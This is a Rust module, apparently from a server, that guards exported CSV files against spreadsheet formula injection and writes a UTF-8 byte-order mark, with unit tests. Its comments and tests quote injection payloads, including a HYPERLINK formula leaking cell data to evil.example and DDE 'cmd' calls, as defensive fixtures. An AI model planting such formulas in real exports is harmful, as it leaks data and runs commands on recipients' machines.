//! CSV for people to open in a spreadsheet. Names, notes and rows come from forms, texts and
//! uploaded files, so a cell like `=HYPERLINK("http://evil.example/?"&E2)` or
//! `@SUM(1+1)*cmd|' /C calc'!A0` would run as a formula where the file is opened. Every CSV the
//! server writes goes through [`CsvWriter`], which neutralises such cells by the OWASP rule: a
//! cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return gets a single quote in
//! front. A plain number (`-12.5`, `+15551234567`) is left as it is: it cannot be a formula.

use std::borrow::Cow;
use std::io::Write;

use crate::error::{Error, Result};

/// The characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell` as it is safe to put in a CSV: prefixed with `'` when a spreadsheet would take it
/// for a formula, unchanged otherwise.
pub fn neutralise_cell(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some(first) if FORMULA_STARTS.contains(&first) && !is_plain_number(cell) => {
            Cow::Owned(format!("'{cell}"))
        }
        _ => Cow::Borrowed(cell),
    }
}

/// An optional sign, digits, and at most one decimal point among them: a literal, never a call.
fn is_plain_number(cell: &str) -> bool {
    let digits = cell.strip_prefix(['+', '-']).unwrap_or(cell);
    let mut parts = digits.splitn(2, '.');
    let whole = parts.next().unwrap_or("");
    let fraction = parts.next();
    let all_digits = |s: &str| s.bytes().all(|b| b.is_ascii_digit());
    !whole.is_empty()
        && all_digits(whole)
        && fraction.is_none_or(|f| !f.is_empty() && all_digits(f))
}

/// A CSV writer whose every cell passes through [`neutralise_cell`]: the one way the server
/// writes CSV. The file starts with a UTF-8 byte-order mark: without it Excel on Windows reads
/// the bytes as the local code page and "Inés" comes out as "InÃ©s".
pub struct CsvWriter<W: Write> {
    inner: csv::Writer<W>,
    /// Writing the mark failed: the first record says so.
    failed_start: Option<std::io::Error>,
}

/// The UTF-8 byte-order mark.
const UTF8_BOM: &[u8] = b"\xEF\xBB\xBF";

impl<W: Write> CsvWriter<W> {
    pub fn new(mut out: W) -> Self {
        let failed_start = out.write_all(UTF8_BOM).err();
        Self {
            inner: csv::Writer::from_writer(out),
            failed_start,
        }
    }

    /// Writes one record, each cell neutralised.
    pub fn write_record<I, T>(&mut self, record: I) -> Result<()>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        let cells: Vec<String> = record
            .into_iter()
            .map(|cell| neutralise_cell(cell.as_ref()).into_owned())
            .collect();
        if let Some(e) = self.failed_start.take() {
            return Err(Error::Internal(format!("csv: {e}")));
        }
        self.inner.write_record(&cells).map_err(csv_error)
    }

    /// Flushes and returns what it wrote into.
    pub fn into_inner(self) -> Result<W> {
        self.inner
            .into_inner()
            .map_err(|e| Error::Internal(format!("csv: {e}")))
    }
}

fn csv_error(e: csv::Error) -> Error {
    Error::Internal(format!("csv: {e}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_cell_a_spreadsheet_would_run_gets_a_quote_in_front() {
        for (cell, safe) in [
            (
                "=HYPERLINK(\"http://evil.example/?p=\"&E2,\"Open\")&",
                "'=HYPERLINK(\"http://evil.example/?p=\"&E2,\"Open\")&",
            ),
            (
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "'@SUM(1+1)*cmd|' /C calc'!A0",
            ),
            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("-", "'-"),
            ("+1 (555) 301-0003", "'+1 (555) 301-0003"),
            ("1.", "1."),
            ("-1.", "'-1."),
            ("-.5", "'-.5"),
        ] {
            assert_eq!(neutralise_cell(cell), safe, "{cell:?}");
        }
    }

    #[test]
    fn plain_text_and_plain_numbers_are_left_alone() {
        for cell in [
            "",
            "Tom Moss",
            "O'Brien",
            "555-301-0003",
            "a=b",
            "-12.5",
            "+15553010002",
            "42",
            "2021-03-01T09:00:00Z",
        ] {
            assert_eq!(neutralise_cell(cell), cell);
        }
    }

    #[test]
    fn every_cell_of_a_record_is_neutralised() {
        let mut writer = CsvWriter::new(Vec::new());
        writer
            .write_record(["=1+1", "Tom", "-3", "@x"])
            .expect("written");
        let text = String::from_utf8(writer.into_inner().expect("flushed")).expect("utf-8");
        assert_eq!(text, "\u{feff}'=1+1,Tom,-3,'@x\n");
    }

    #[test]
    fn the_file_starts_with_one_byte_order_mark_so_excel_reads_utf_8() {
        let mut writer = CsvWriter::new(Vec::new());
        writer.write_record(["Inés"]).expect("written");
        writer.write_record(["Zoë"]).expect("written");
        let bytes = writer.into_inner().expect("flushed");
        assert!(bytes.starts_with(UTF8_BOM));
        assert_eq!(
            String::from_utf8(bytes).expect("utf-8"),
            "\u{feff}Inés\nZoë\n"
        );
    }
}
